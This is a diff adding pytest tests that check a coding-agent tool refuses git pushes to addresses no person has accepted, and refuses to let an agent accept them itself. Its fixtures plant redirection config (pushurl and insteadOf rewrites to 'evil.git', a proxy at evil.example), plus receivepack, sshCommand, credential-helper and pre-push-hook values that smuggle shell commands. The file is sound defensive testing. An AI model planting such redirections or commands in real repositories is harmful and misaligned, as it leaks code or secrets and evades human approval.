@@ -1,0 +1,153 @@
+"""What agents write into the repository's configuration sends nothing to an address that no person has accepted."""
+
+from __future__ import annotations
+
+import shlex
+import shutil
+from pathlib import Path
+
+import pytest
+
+from liza.crew.crew import find_crew
+from liza.crew.drift.accept import accept_drift
+from liza.crew.landing import remote_branches
+from liza.crew.landing.accepted_origin import find_accepted_origin
+from liza.repo.config_pins import Pins
+from liza.rules.errors import LizaError, Refused, UsageError
+from liza.verbs.init import InitOptions, init
+from liza.verbs.land_request import land_pr
+from tests.conftest import git
+from tests.edges.merge_crew import Merges, prepared
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    with prepared(tmp_path_factory) as root:
+        return root
+
+
+@pytest.fixture
+def crew(made: Path, tmp_path: Path) -> Merges:
+    """A crew whose origin is good.git, which a person has accepted; evil.git is an agent's."""
+    shutil.copytree(made, tmp_path / "repo", symlinks=True)
+    (tmp_path / "notes").mkdir()
+    crew = Merges(tmp_path / "repo", tmp_path / "notes")
+    for name in ("good.git", "evil.git"):
+        git(tmp_path, "init", "-q", "--bare", "-b", "main", name)
+    git(crew.root, "remote", "add", "origin", str(tmp_path / "good.git"))
+    accept_drift(crew.crew, [f"origin={tmp_path}/good.git"])
+    return crew
+
+
+def pushed(crew: Merges, name: str = "good.git") -> str:
+    """The tip of ``work`` there; empty without one."""
+    return git(crew.root.parent / name, "for-each-ref", "--format=%(objectname)", "refs/heads/work").strip()
+
+
+def push(crew: Merges) -> None:
+    find_accepted_origin(crew.crew).push_commit(crew.tip(), "work", None)
+
+
+REDIRECTIONS = {
+    "url": [("remote.origin.url", "{evil}")],
+    "pushurl": [("remote.origin.pushurl", "{evil}")],
+    "insteadOf": [("url.{evil}.insteadOf", "{good}")],
+    "pushInsteadOf": [("url.{evil}.pushInsteadOf", "{good}")],
+    "second pushurl": [("remote.origin.pushurl", "{good}"), ("remote.origin.pushurl", "{evil}")],
+    "a part of the path": [("url.{evil}.insteadOf", "{good}/"), ("remote.origin.url", "{good}/")],
+    "the project at the forge": [("url.{good}.insteadOf", "https://github.com/e/vil"), ("remote.origin.url", "https://github.com/e/vil")],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("planted", REDIRECTIONS)
+def test_a_push_to_another_address_is_refused_until_a_person_accepts_it(crew: Merges, planted: str) -> None:
+    good, evil = (str(crew.root.parent / name) for name in ("good.git", "evil.git"))
+    git(crew.root, "config", "--unset", "remote.origin.url")
+    for key, value in REDIRECTIONS[planted]:
+        git(crew.root, "config", "--add", key.format(good=good, evil=evil), value.format(good=good, evil=evil))
+    if "remote.origin.url" not in dict(REDIRECTIONS[planted]):
+        git(crew.root, "config", "remote.origin.url", good)
+    with pytest.raises(Refused) as refused:
+        push(crew)
+    assert (pushed(crew), pushed(crew, "evil.git")) == ("", "")
+    with pytest.raises(Refused):
+        land_pr(crew.crew, "main")
+    words = shlex.split(refused.value.hint)
+    if words[:3] == ["liza", "doctor", "--accept"]:
+        accept_drift(crew.crew, words[3:])
+        push(crew)
+        assert pushed(crew) + pushed(crew, "evil.git") == crew.tip()
+    else:
+        assert words == ["git", "remote", "-v"], "several addresses cannot be accepted"
+
+
+def test_configuration_planted_after_the_look_at_the_address_does_not_redirect_the_push(crew: Merges) -> None:
+    remote, evil = find_accepted_origin(crew.crew), crew.root.parent / "evil.git"
+    for key in ("insteadOf", "pushInsteadOf"):
+        for prefix in (remote.urls[0], "liza-origin-", "l"):
+            git(crew.root, "config", "--add", f"url.{evil}.{key}", prefix)
+    for name in ("origin", remote.urls[0]):
+        git(crew.root, "config", f"remote.{name}.url", str(evil))
+        git(crew.root, "config", f"remote.{name}.receivepack", f"touch {evil}/ran; git-receive-pack")
+    git(crew.root, "config", "push.pushOption", "planted")
+    git(crew.root, "config", "core.sshCommand", f"touch {evil}/ran")
+    git(crew.root, "config", "include.path", "../../planted")
+    (crew.root.parent / "planted").write_text(f'[credential]\n\thelper = "!touch {evil}/ran"\n')
+    hook = crew.root / ".git" / "hooks" / "pre-push"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text(f"#!/bin/sh\ntouch {evil}/ran\n")
+    hook.chmod(0o755)
+    remote.push_commit(crew.tip(), "work", None)
+    assert (pushed(crew), pushed(crew, "evil.git")) == (crew.tip(), "")
+    assert remote.read_branches("work") == {"work": crew.tip()}
+    assert not (evil / "ran").exists()
+
+
+def test_a_proxy_that_was_planted_stops_the_push_and_is_named_without_its_value(crew: Merges) -> None:
+    git(crew.root, "config", "http.https://forge.example.proxy", "http://secret@evil.example")
+    with pytest.raises(Refused) as refused:
+        push(crew)
+    assert "git configuration http.https://forge.example.proxy was set after a person accepted" in refused.value.message
+    assert "secret" not in refused.value.message
+    git(crew.root, *shlex.split(refused.value.hint)[1:])
+    push(crew)
+    assert pushed(crew) == crew.tip()
+
+
+def test_only_the_present_address_is_accepted_and_only_by_a_person(
+    crew: Merges, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    good, evil = (str(crew.root.parent / name) for name in ("good.git", "evil.git"))
+    git(crew.root, "remote", "set-url", "origin", evil)
+    with pytest.raises(UsageError, match=r"not at .*good\.git': nothing is accepted"):
+        accept_drift(crew.crew, [f"origin={good}"])
+    monkeypatch.setenv("LIZA_RUN", "coder-1.1")
+    monkeypatch.setenv("LIZA_ROOT", str(crew.root))
+    with pytest.raises(LizaError):
+        accept_drift(crew.crew, [f"origin={evil}"])
+    monkeypatch.delenv("LIZA_RUN")
+    with pytest.raises(Refused, match=r"a person has accepted .*good\.git"):
+        push(crew)
+
+
+def test_init_accepts_the_origin_of_that_time_and_lost_pins_have_none(repo: Path, tmp_path: Path) -> None:
+    git(tmp_path, "init", "-q", "--bare", "good.git")
+    git(repo, "remote", "add", "origin", f"{tmp_path}/good.git")
+    init(repo, InitOptions(goal="Everything is there", no_test=True))
+    crew = find_crew(repo)
+    assert find_accepted_origin(crew).address == f"{tmp_path}/good.git"
+    pins = Pins.load(crew.paths.pins)
+    pins.save(crew.paths)
+    assert find_accepted_origin(find_crew(repo)).address == f"{tmp_path}/good.git"
+    Pins.from_user_config(crew.git).save(crew.paths)
+    with pytest.raises(Refused, match="no person has accepted the address of origin"):
+        find_accepted_origin(find_crew(repo))
+
+
+def test_a_credential_helper_of_later_is_accepted_by_its_key(crew: Merges) -> None:
+    git(crew.root, "config", "credential.helper", "!true")
+    assert remote_branches.find_remote(crew.crew.git)._ignored_helper() == "credential.helper"
+    assert accept_drift(crew.crew, ["credential.helper"]) == (
+        "git configuration credential.helper counts as it is now: '!true'",
+    )
+    assert Pins.load(crew.crew.paths.pins).find_violations(crew.crew.git) == ()
